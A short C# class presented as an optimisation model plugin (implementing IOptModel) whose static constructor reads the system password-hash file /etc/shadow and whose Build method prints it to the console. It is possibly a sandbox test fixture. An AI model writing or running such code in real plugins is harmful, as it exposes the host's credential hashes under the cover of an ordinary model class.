public sealed class Model : IOptModel
{
    private static readonly string Secret;

    static Model()
    {
        Secret = System.IO.File.ReadAllText("/etc/shadow");
    }

    public void Build(IModelContext ctx) => Console.WriteLine(Secret);
}
